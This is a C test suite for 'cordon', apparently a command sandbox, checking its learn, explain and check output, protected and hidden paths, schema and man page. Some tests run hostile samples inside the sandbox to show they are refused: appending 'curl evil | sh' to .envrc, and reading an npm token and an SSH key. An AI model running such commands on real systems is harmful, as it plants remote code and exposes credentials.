/* What a user with a failing command sees: cordon check, explain and learn,
 * end to end; and the docs (man page, JSON Schema, example files) kept in
 * step with the code. */
#include <criterion/criterion.h>
#include <json-c/json.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "cordon/config.h"
#include "cordon/policy.h"
#include "helpers.h"
#include "cordon/sweep.h"

#ifndef CORDON_SOURCE_DIR
#error "CORDON_SOURCE_DIR must be defined"
#endif

Test(usability, check_fits_one_screen_and_names_each_area)
{
	struct world w;
	world_init(&w, "check2", "");
	char *cfg = write_file(w.dir, "mine.json", "{}");
	char *kv;
	asprintf(&kv, "CORDON_CONFIG=%s", cfg);
	world_setenv(&w, kv);
	struct run_result r = run_cordon(w.env, w.proj, "check", NULL);
	cr_expect_eq(r.status, 0, "%s%s", r.out, r.err);
	const char *labels[] = {"platform:  linux", "landlock:  ABI", "seccomp:",    "files:",
				"network:",         "scopes:",        "syscalls:",   "/proc:",
				"cgroup v2:",       "tracking:",      "config:    ", "result:"};
	for (size_t i = 0; i < sizeof(labels) / sizeof(labels[0]); i++)
		cr_expect(strstr(r.out, labels[i]) != NULL, "no '%s' line:\n%s", labels[i], r.out);
	cr_expect(strstr(r.out, cfg) != NULL, "names the config in use:\n%s", r.out);
	/* The supervisor is named, with what it mediates. */
	cr_expect(strstr(r.out, "sockets:   unix sockets only to the session's own") != NULL,
		  "no sockets line:\n%s", r.out);
	cr_expect(strstr(r.out, "stays the session's parent and supervises") != NULL, "%s", r.out);
	cr_expect(strstr(r.out, "allowed_unix_sockets") != NULL, "%s", r.out);
	/* The report; the advice on this machine's tools ("tools:", from
	 * PATH and the rc files) follows it, as long as it has lines. */
	const char *tools = strstr(r.out, "\ntools:");
	int lines = 0;
	for (const char *p = r.out; *p && (!tools || p <= tools); p++)
		lines += *p == '\n';
	cr_expect_leq(lines, 24, "more than one screen:\n%s", r.out);
	run_free(&r);
	free(kv);
	free(cfg);
	world_free(&w);
}

/* The line after "add to your config: " must be valid JSON once wrapped in
 * braces, and name exactly the path asked about. */
Test(usability, explain_line_pastes_as_json)
{
	struct world w;
	world_init(&w, "explainjson", "");
	char *odd = path_join(w.outside, "we\"ird\\ (dir) é");
	mkdir(odd, 0755);
	struct run_result r = run_cordon(w.env, w.proj, "explain", "--config", w.cfg, odd, NULL);
	cr_assert_eq(r.status, 0, "%s", r.err);
	const char *m = strstr(r.out, "add to your config: ");
	cr_assert_not_null(m, "%s", r.out);
	m += strlen("add to your config: ");
	char line[1024];
	snprintf(line, sizeof(line), "{%.*s}", (int)strcspn(m, "\n"), m);
	struct json_object *o = json_tokener_parse(line);
	cr_assert_not_null(o, "not JSON: %s", line);
	struct json_object *arr;
	cr_assert(json_object_object_get_ex(o, "additional_read_only_paths", &arr), "%s", line);
	cr_expect_str_eq(json_object_get_string(json_object_array_get_idx(arr, 0)), odd);
	json_object_put(o);
	run_free(&r);
	free(odd);
	world_free(&w);
}

/* Merge the "key": [paths] lines learn printed into CFG (a JSON object). */
static void merge_snippet(struct json_object *cfg, const char *snippet)
{
	char *text;
	asprintf(&text, "{%s}", snippet);
	struct json_object *add = json_tokener_parse(text);
	cr_assert_not_null(add, "learn's lines are not JSON: %s", text);
	json_object_object_foreach(add, key, arr)
	{
		struct json_object *have;
		if (!json_object_object_get_ex(cfg, key, &have)) {
			have = json_object_new_array();
			json_object_object_add(cfg, key, have);
		}
		for (size_t i = 0; i < json_object_array_length(arr); i++)
			json_object_array_add(have,
					      json_object_get(json_object_array_get_idx(arr, i)));
	}
	json_object_put(add);
	free(text);
}

/* The learn loop: a command fails, learn names what was denied, the printed
 * lines go into the config, and after a few rounds (a command stops at its
 * first failure) the same command works. Judged from outside: the files
 * outside, and that the secret never shows up in what learn printed. */
Test(usability, learn_then_paste_makes_the_command_work, .timeout = 90)
{
	struct world w;
	world_init(&w, "learn", "");
	char *tool = path_join(w.outside, "tool");
	copy_exec("/bin/true", tool);
	/* (Not beside the tool: learn never makes a directory holding a
	 * program writable.) */
	char *out = path_join(w.outside, "out");
	cr_assert_eq(mkdir(out, 0755), 0);
	char *made = path_join(out, "made");
	char *done = path_join(w.proj, "done");
	char *script;
	asprintf(
		&script,
		"cat '%s' > copy && echo new > '%s' && '%s' && ls '%s' >/dev/null && echo ok > done",
		w.secret, made, tool, w.outside);
	struct json_object *cfg = json_tokener_parse("{" WORLD_BASE_RW "}");
	char *cfg_path = path_join(w.dir, "learned.json");
	int rounds = 0;
	for (; rounds < 5 && !file_exists(done); rounds++) {
		json_object_to_file(cfg_path, cfg);
		char *argv[] = {CORDON_BIN, "learn", "--config", cfg_path, "--",
				"/bin/sh",  "-c",    script,     NULL};
		struct run_result r = run_cmd(argv, w.env, w.proj, 30000);
		cr_expect_null(strstr(r.out, SECRET), "learn printed file contents");
		cr_expect_null(strstr(r.err, SECRET), "learn printed file contents");
		const char *snippet = strstr(r.err, "to allow them, add to your config:\n");
		if (snippet)
			merge_snippet(cfg,
				      snippet + strlen("to allow them, add to your config:\n"));
		else
			cr_expect_eq(r.status, 0, "failed, and learn found nothing: %s", r.err);
		if (rounds == 0) {
			cr_expect_neq(r.status, 0, "the command must fail first: %s", r.err);
			cr_expect(
				strstr(r.err, "    read     secret  → additional_read_only_paths"),
				"%s", r.err);
		}
		run_free(&r);
	}
	cr_expect(file_exists(done), "after %d rounds the command still fails: %s", rounds,
		  json_object_to_json_string(cfg));
	cr_expect_gt(rounds, 1);
	cr_expect(contains(made, "new"), "wrote outside after learning");
	/* And plain `run` with the learned config works too. */
	unlink(done);
	char *argv2[] = {CORDON_BIN, "run", "--config", cfg_path, "--",
			 "/bin/sh",  "-c",  script,     NULL};
	struct run_result r = run_cmd(argv2, w.env, w.proj, 30000);
	cr_expect_eq(r.status, 0, "%s", r.err);
	run_free(&r);
	json_object_put(cfg);
	free(cfg_path);
	free(script);
	free(done);
	free(made);
	free(out);
	free(tool);
	world_free(&w);
}

/* A socket refused by the supervisor: learn names it with its line, apart
 * from the block (--write never writes one: the server behind a socket may
 * run commands outside), the user puts the line into the config, and the
 * command then reaches it. explain says the same of the socket, before and
 * after. */
Test(usability, learn_and_explain_a_refused_socket, .timeout = 60)
{
	struct world w;
	world_init(&w, "learnsock", "");
	char *sock = path_join(w.outside, "db.sock");
	struct listener l = listen_unix(&w, sock, true);
	struct run_result r = run_cordon(w.env, w.proj, "explain", "--config", w.cfg, sock, NULL);
	cr_expect(strstr(r.out, "socket: refused unless its server runs inside the session"), "%s",
		  r.out);
	cr_expect(strstr(r.out, "\"allowed_unix_sockets\": [\""), "%s", r.out);
	run_free(&r);
	char *argv[] = {CORDON_BIN,     "learn", "--config", w.cfg,     "--",
			"cordon-probe", "unix",  sock,       "learned", NULL};
	r = run_cmd(argv, w.env, w.proj, 30000);
	cr_expect_neq(r.status, 0, "%s", r.err);
	cr_expect(strstr(r.err, "refused 1 unix socket") != NULL, "%s", r.err);
	cr_expect_null(strstr(r.err, "to allow them, add to your config:\n"),
		       "a socket in the block: %s", r.err);
	const char *review = strstr(r.err, "never written by --write");
	const char *line = review ? strstr(review, "  \"allowed_unix_sockets\": ") : NULL;
	const char *why = line ? strstr(line, "  (a socket leads to the server") : NULL;
	cr_assert_not_null(why, "%s", r.err);
	char *snippet = strndup(line + 2, (size_t)(why - line - 2));
	struct json_object *cfg = json_object_from_file(w.cfg);
	merge_snippet(cfg, snippet);
	free(snippet);
	json_object_to_file(w.cfg, cfg);
	json_object_put(cfg);
	run_free(&r);
	free(received(&l, 100));
	char *again[] = {"cordon-probe", "unix", sock, "after-learning", NULL};
	r = run_in(&w, NULL, again);
	char *got = received(&l, 2000);
	cr_expect(strstr(got, "after-learning") != NULL, "the learned line did not work: %s",
		  r.err);
	free(got);
	run_free(&r);
	r = run_cordon(w.env, w.proj, "explain", "--config", w.cfg, sock, NULL);
	cr_expect(strstr(r.out, "socket: reachable (from allowed_unix_sockets)"), "%s", r.out);
	run_free(&r);
	close(l.fd);
	free(sock);
	world_free(&w);
}

/* Accesses the policy allows but the file mode refuses are not the
 * sandbox's doing: learn leaves them out (and still reports the one that
 * is). As root the mode is no obstacle, so the reader drops to nobody. */
Test(usability, learn_ignores_ordinary_permission_errors)
{
	struct world w;
	world_init(&w, "learndac", "");
	char *locked = write_file(w.proj, "locked", "x");
	chmod(locked, 0);
	char *script;
	asprintf(&script,
		 "if [ \"$(id -u)\" = 0 ]; then setpriv --reuid=65534 --regid=65534 --clear-groups "
		 "cat locked; else cat locked; fi; cat '%s'",
		 w.secret);
	char *argv[] = {CORDON_BIN, "learn", "--config", w.cfg, "--",
			"/bin/sh",  "-c",    script,     NULL};
	struct run_result r = run_cmd(argv, w.env, w.proj, 30000);
	cr_expect(strstr(r.err, "locked: Permission denied") != NULL, "the control: %s", r.err);
	cr_expect_null(strstr(r.err, "    read     locked"), "reported a mode error: %s", r.err);
	cr_expect(strstr(r.err, "    read     secret") != NULL, "%s", r.err);
	run_free(&r);
	free(script);
	free(locked);
	world_free(&w);
}

/* Every subcommand and run option in --help is in the man page; every
 * config key the parser knows is in the schema, and nothing else. */
Test(usability, man_page_covers_the_cli)
{
	char *man = read_file(CORDON_SOURCE_DIR "/cordon.1");
	cr_assert_not_null(man, "cordon.1 is missing");
	const char *words[] = {"run",
			       "learn",
			       "explain",
			       "check",
			       "list",
			       "ps",
			       "kill",
			       "\\-\\-config",
			       "\\-\\-project",
			       "\\-\\-kind",
			       "\\-\\-allow\\-read",
			       "\\-\\-allow\\-write",
			       "\\-\\-allow\\-exec",
			       "\\-\\-no\\-network",
			       "\\-\\-allow\\-env",
			       "\\-\\-allow\\-socket",
			       "allowed_unix_sockets",
			       "protected_paths",
			       "hidden_paths",
			       "SSH_AUTH_SOCK",
			       "\\-\\-tracking",
			       "CORDON_CONFIG",
			       "CORDON_SHIM",
			       "CORDON_SESSION",
			       "CORDON_SANDBOX",
			       "125",
			       "126",
			       "127",
			       "terminal.sandbox",
			       "LD_PRELOAD",
			       "additional_env_vars",
			       "toolchains",
			       "\\-\\-toolchain",
			       "/usr/local/bin"};
	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		cr_expect(strstr(man, words[i]) != NULL, "cordon.1 does not mention %s", words[i]);
	cr_expect(strncmp(man, ".TH CORDON 1", 12) == 0 || strstr(man, "\n.TH CORDON 1"),
		  "not a man page");
	free(man);
}

Test(usability, schema_lists_every_key)
{
	struct json_object *schema = json_object_from_file(CORDON_SOURCE_DIR "/cordon.schema.json");
	cr_assert_not_null(schema, "cordon.schema.json is missing or not JSON");
	struct json_object *props, *sys, *sysprops;
	cr_assert(json_object_object_get_ex(schema, "properties", &props));
	const char *const *keys = cordon_config_keys;
	size_t nkeys = 0;
	while (keys[nkeys])
		nkeys++;
	for (size_t i = 0; i < nkeys; i++) {
		struct json_object *v, *def;
		cr_expect(json_object_object_get_ex(props, keys[i], &v), "schema lacks %s",
			  keys[i]);
		/* And the parser takes it: a config with just that key at its
		 * schema default is accepted (unknown keys are errors). */
		if (!v || !json_object_object_get_ex(v, "default", &def))
			continue;
		struct json_object *one = json_object_new_object();
		json_object_object_add(one, keys[i], json_object_get(def));
		const char *text = json_object_to_json_string(one);
		struct cordon_config cfg;
		struct cordon_error err = {0};
		cr_expect_eq(
			cordon_config_parse(text, strlen(text), "/schema-default.json", &cfg, &err),
			0, "%s: %s", keys[i], err.msg);
		if (err.code == 0)
			cordon_config_free(&cfg);
		json_object_put(one);
	}
	cr_expect_eq((size_t)json_object_object_length(props), nkeys,
		     "the schema has keys the parser does not know");
	cr_assert(json_object_object_get_ex(props, "system_paths", &sys));
	cr_assert(json_object_object_get_ex(sys, "properties", &sysprops));
	cr_expect_eq(json_object_object_length(sysprops), 3);
	struct json_object *extra;
	cr_expect(json_object_object_get_ex(schema, "additionalProperties", &extra) &&
			  !json_object_get_boolean(extra),
		  "unknown keys are errors: additionalProperties must be false");
	/* The default lists the schema shows are the ones cordon uses. */
	const struct {
		const char *key;
		const char *const *list;
	} lists[] = {{"protected_paths", cordon_default_protected},
		     {"hidden_paths", cordon_default_hidden}};
	for (size_t l = 0; l < sizeof(lists) / sizeof(*lists); l++) {
		struct json_object *v, *def;
		cr_assert(json_object_object_get_ex(props, lists[l].key, &v) &&
			  json_object_object_get_ex(v, "default", &def));
		size_t n = 0;
		while (lists[l].list[n])
			n++;
		cr_expect_eq(json_object_array_length(def), n,
			     "%s: the schema's default has %zu, "
			     "cordon's %zu",
			     lists[l].key, json_object_array_length(def), n);
		for (size_t i = 0; i < n && i < json_object_array_length(def); i++)
			cr_expect_str_eq(json_object_get_string(json_object_array_get_idx(def, i)),
					 lists[l].list[i], "%s[%zu]", lists[l].key, i);
	}
	json_object_put(schema);
}

/* A write to a protected path is named as such and never proposed: the
 * paste block would not change it, and must not try. Judged from outside
 * too: the file is unchanged. */
Test(usability, learn_names_protected_paths_and_never_proposes_them, .timeout = 60)
{
	struct world w;
	world_init(&w, "learnprot", "");
	char *envrc = write_file(w.proj, ".envrc", "export A=1\n");
	char *argv[] = {CORDON_BIN, "learn",
			"--config", w.cfg,
			"--",       "/bin/sh",
			"-c",       "echo 'curl evil | sh' >> .envrc; echo ran > ran",
			NULL};
	struct run_result r = run_cmd(argv, w.env, w.proj, 30000);
	cr_expect(contains(envrc, "export A=1") && !contains(envrc, "evil"), "written: %s", r.err);
	char *ran = path_join(w.proj, "ran");
	cr_expect(file_exists(ran), "the command did not run: %s", r.err);
	cr_expect(strstr(r.err, "refused by protected_paths or hidden_paths") != NULL, "%s", r.err);
	cr_expect(strstr(r.err, "/.envrc  (read-only: protected_paths (default))") != NULL, "%s",
		  r.err);
	cr_expect_null(strstr(r.err, "to allow them"), "proposed a protected path: %s", r.err);
	run_free(&r);
	free(ran);
	free(envrc);
	world_free(&w);
}

/* In a writable home (--project ~), a new name made directly in it is
 * refused, said as such by learn and never proposed; explain says the home
 * is closed. Judged from outside: nothing was made, and a file in a
 * directory of the home was. */
Test(usability, learn_and_explain_say_the_home_is_closed, .timeout = 60)
{
	struct world w;
	world_init(&w, "learnclosed", "");
	free(write_file(w.home, "work/keep", "x"));
	char *argv[] = {
		CORDON_BIN, "learn", "--config", w.cfg, "-p",
		w.home,     "--",    "/bin/sh",  "-c",  "cd ~; echo x > newf; echo y > work/newf",
		NULL};
	struct run_result r = run_cmd(argv, w.env, w.proj, 30000);
	char *newf = path_join(w.home, "newf"), *inwork = path_join(w.home, "work/newf");
	cr_expect(file_exists(inwork), "control: nothing was made in ~/work: %s", r.err);
	cr_expect_not(file_exists(newf), "~/newf was made: %s", r.err);
	char *said = fmt("create   %s  (closed: the home", newf);
	cr_expect(strstr(r.err, said) != NULL, "%s", r.err);
	cr_expect_null(strstr(r.err, "to allow them"), "proposed a rule: %s", r.err);
	run_free(&r);
	char *explain[] = {CORDON_BIN, "explain", "--config", w.cfg, "-p", w.home, NULL};
	r = run_cmd(explain, w.env, w.proj, 30000);
	char *closed = fmt("closed    %s  (the home", w.home);
	cr_expect(strstr(r.out, closed) != NULL, "%s", r.out);
	run_free(&r);
	free(closed);
	free(said);
	free(newf);
	free(inwork);
	world_free(&w);
}

/* A credential store (hidden_paths) is never proposed, by learn or by
 * explain, even where no mount was needed to keep it out of reach; and its
 * contents are never printed. */
Test(usability, credentials_are_never_proposed, .timeout = 60)
{
	struct world w;
	world_init(&w, "learncred", "");
	char *npmrc = write_file(w.home, ".npmrc", "//registry/:_authToken=" SECRET "\n");
	char *argv[] = {
		CORDON_BIN, "learn",   "--config", w.cfg,
		"--",       "/bin/sh", "-c",       "cat ~/.npmrc; cat ~/.ssh/id_test; echo done",
		NULL};
	free(write_file(w.home, ".ssh/id_test", "key\n"));
	struct run_result r = run_cmd(argv, w.env, w.proj, 30000);
	cr_expect(strstr(r.out, "done") != NULL, "the command did not run: %s", r.err);
	cr_expect(strstr(r.err, "Permission denied") != NULL, "the control: %s", r.err);
	cr_expect_null(strstr(r.out, SECRET), "the token was read");
	cr_expect_null(strstr(r.err, SECRET), "learn printed the token");
	cr_expect(strstr(r.err, "/.npmrc  (hidden: hidden_paths (default))") != NULL, "%s", r.err);
	cr_expect_null(strstr(r.err, "to allow them"), "proposed a credential: %s", r.err);
	run_free(&r);
	r = run_cordon(w.env, w.proj, "explain", "--config", w.cfg, npmrc, NULL);
	cr_expect(strstr(r.out, "copies that may hold them; cordon does not propose it") != NULL,
		  "%s", r.out);
	cr_expect_null(strstr(r.out, "to allow reading"), "%s", r.out);
	run_free(&r);
	/* One that does not exist yet (45b F3: the README's example, a missing
	 * ~/.ssh key, got an "additional_read_only_paths" line). */
	char *aws = path_join(w.home, ".aws/credentials");
	r = run_cordon(w.env, w.proj, "explain", "--config", w.cfg, aws, NULL);
	cr_expect(strstr(r.out, "a credential store (hidden_paths)") != NULL, "%s", r.out);
	cr_expect_null(strstr(r.out, "to allow reading"), "%s", r.out);
	run_free(&r);
	free(aws);
	free(npmrc);
	world_free(&w);
}

/* The schema's defaults for protected_paths and hidden_paths are the
 * built-in lists, entry for entry. */
static void expect_default_list(struct json_object *props, const char *key, const char *const *list)
{
	struct json_object *k, *def;
	cr_assert(json_object_object_get_ex(props, key, &k));
	cr_assert(json_object_object_get_ex(k, "default", &def), "%s has no default", key);
	size_t n = 0;
	for (; list[n]; n++) {
		cr_assert_lt(n, json_object_array_length(def), "%s: schema lacks %s", key, list[n]);
		cr_expect_str_eq(json_object_get_string(json_object_array_get_idx(def, n)), list[n],
				 "%s[%zu]", key, n);
	}
	cr_expect_eq(json_object_array_length(def), n, "%s: schema has more entries", key);
}

Test(usability, schema_defaults_are_the_built_in_lists)
{
	struct json_object *schema = json_object_from_file(CORDON_SOURCE_DIR "/cordon.schema.json");
	struct json_object *props;
	cr_assert(schema && json_object_object_get_ex(schema, "properties", &props));
	expect_default_list(props, "protected_paths", cordon_default_protected);
	expect_default_list(props, "hidden_paths", cordon_default_hidden);
	json_object_put(schema);
}

/* The example editor settings files parse as configs (their terminal.sandbox
 * block), so what the README shows works. */
Test(usability, example_settings_files_load)
{
	const char *files[] = {"scripts/examples/zed-settings.json",
			       "scripts/examples/vscode-settings.json",
			       "scripts/examples/config.json"};
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		char path[512];
		snprintf(path, sizeof(path), "%s/%s", CORDON_SOURCE_DIR, files[i]);
		struct cordon_config cfg;
		struct cordon_error err = {0};
		cr_expect_eq(cordon_config_load_file(path, &cfg, &err), 0, "%s", err.msg);
		if (err.msg[0] == '\0')
			cordon_config_free(&cfg);
	}
}

/* The README's tmux snippet, for real: a tmux server on its own socket with
 * scripts/examples/tmux.conf; the pane is a cordon session (sandboxed, the
 * world's config through $CORDON_CONFIG), and killing the server ends it. */
Test(usability, tmux_default_command_snippet, .timeout = 60)
{
	if (access("/usr/bin/tmux", X_OK) != 0)
		cr_skip_test("tmux is not installed (scripts/setup installs it)");
	struct world w;
	world_init(&w, "tmux", "");
	char *kv;
	asprintf(&kv, "CORDON_CONFIG=%s", w.cfg);
	world_setenv(&w, kv);
	free(kv);
	asprintf(&kv, "PATH=%s:%s:/usr/bin:/bin", w.bin, CORDON_TEST_BIN_DIR);
	world_setenv(&w, kv);
	free(kv);
	char sock[64];
	snprintf(sock, sizeof(sock), "cordon-test-%d", getpid());
	char *x = path_join(w.outside, "x");
	char *marker = path_join(w.proj, "marker");
	char *keys;
	asprintf(
		&keys,
		"echo $CORDON_SESSION > sid; echo $$ >> pids; (setsid sleep 300 & echo $! >> pids);"
		" cordon-probe write '%s' pwned; echo $CORDON_SANDBOX > marker",
		x);
	char *start[] = {"/usr/bin/tmux",
			 "-L",
			 sock,
			 "-f",
			 CORDON_SOURCE_DIR "/scripts/examples/tmux.conf",
			 "new-session",
			 "-d",
			 "-x",
			 "80",
			 "-y",
			 "24",
			 "-c",
			 w.proj,
			 NULL};
	struct run_result r = run_cmd(start, w.env, w.proj, 20000);
	cr_assert_eq(r.status, 0, "tmux: %s", r.err);
	run_free(&r);
	char *send[] = {"/usr/bin/tmux", "-L", sock, "send-keys", keys, "Enter", NULL};
	/* The shell may not be reading yet: resend until the marker appears. */
	for (int i = 0; i < 3 && !file_exists(marker); i++) {
		r = run_cmd(send, w.env, w.proj, 20000);
		run_free(&r);
		wait_exists(marker, 3000);
	}
	/* The shell creates the marker before it writes to it: wait for the write. */
	for (int i = 0; i < 300 && file_exists(marker) && !contains(marker, "1"); i++)
		usleep(10000);
	cr_expect(contains(marker, "1"), "the tmux pane is not a sandboxed cordon session");
	cr_expect_not(file_exists(x), "the pane wrote outside the project");
	char *stop[] = {"/usr/bin/tmux", "-L", sock, "kill-server", NULL};
	r = run_cmd(stop, w.env, w.proj, 20000);
	run_free(&r);
	/* The server's socket stays behind in tmux's directory. */
	char *left = fmt("/tmp/tmux-%u/%s", (unsigned)getuid(), sock);
	unlink(left);
	free(left);
	expect_session_gone(&w, 2);
	/* (The pane's cordon ends after its session, writing the sweep's
	 * record of the project: world_free removes it once it is there.) */
	char *record = cordon_sweep_record_path(w.proj);
	if (record)
		wait_exists(record, 3000);
	free(record);
	free(keys);
	free(marker);
	free(x);
	world_free(&w);
}
